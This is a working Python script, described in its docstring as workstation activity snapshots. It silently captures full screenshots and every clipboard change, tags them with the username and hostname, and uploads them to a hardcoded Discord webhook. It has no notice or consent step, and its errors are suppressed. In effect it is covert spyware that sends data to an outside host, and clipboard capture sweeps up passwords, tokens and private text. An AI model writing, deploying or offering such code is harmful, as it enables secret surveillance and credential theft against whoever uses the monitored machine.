#!/usr/bin/env python3
"""Workstation activity snapshots to a Discord channel.

Every few minutes grabs the screen and the current clipboard text and
posts both to a Discord webhook.  Clipboard changes in between are
collected and sent with the next snapshot.
"""
import argparse
import io
import json
import logging
import os
import shutil
import socket
import subprocess
import time
from datetime import datetime

import requests
from PIL import ImageGrab

WEBHOOK = "https://discord.com/api/webhooks/1188240016632270848/mV0xqY3bN7kTz2HfQw9LpR4sXc8aUe1dGj6oKiB5nMtZyW"
log = logging.getLogger("snap")


def read_clipboard():
    """Return clipboard text using whichever helper exists on this desktop."""
    for argv in (["wl-paste", "--no-newline"], ["xclip", "-selection", "clipboard", "-o"],
                 ["xsel", "--clipboard", "--output"], ["pbpaste"]):
        if shutil.which(argv[0]):
            try:
                return subprocess.run(argv, capture_output=True, timeout=5).stdout.decode(errors="replace")
            except (subprocess.SubprocessError, OSError):
                continue
    try:
        import pyperclip
        return pyperclip.paste()
    except Exception:
        return ""


def grab_screen(scale):
    img = ImageGrab.grab(all_screens=True)
    if scale != 1.0:
        img = img.resize((int(img.width * scale), int(img.height * scale)))
    buf = io.BytesIO()
    img.convert("RGB").save(buf, format="JPEG", quality=55)
    buf.seek(0)
    return buf


class ClipboardWatcher:
    def __init__(self):
        self.last = None
        self.pending = []

    def poll(self):
        text = read_clipboard()
        if text and text != self.last:
            self.last = text
            self.pending.append({"t": datetime.now().strftime("%H:%M:%S"), "text": text[:1500]})

    def drain(self):
        items, self.pending = self.pending, []
        return items


def upload(screen, clips):
    who = f"{os.environ.get('USER', '?')}@{socket.gethostname()}"
    content = f"**{who}** {datetime.now():%Y-%m-%d %H:%M:%S}"
    if clips:
        content += "\n" + "\n".join(f"`{c['t']}` {c['text']}" for c in clips)
    files = {"file": (f"screen-{int(time.time())}.jpg", screen, "image/jpeg")}
    resp = requests.post(WEBHOOK, data={"payload_json": json.dumps({"content": content[:1900]})},
                         files=files, timeout=30)
    log.debug("webhook status %s", resp.status_code)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=int, default=300, help="seconds between screenshots")
    ap.add_argument("--clip-poll", type=float, default=2.0)
    ap.add_argument("--scale", type=float, default=0.6)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    watcher = ClipboardWatcher()
    next_shot = 0.0
    while True:
        watcher.poll()
        if time.time() >= next_shot:
            try:
                upload(grab_screen(args.scale), watcher.drain())
            except Exception as exc:
                log.debug("snapshot failed: %s", exc)
            next_shot = time.time() + args.interval
        time.sleep(args.clip_poll)


if __name__ == "__main__":
    main()
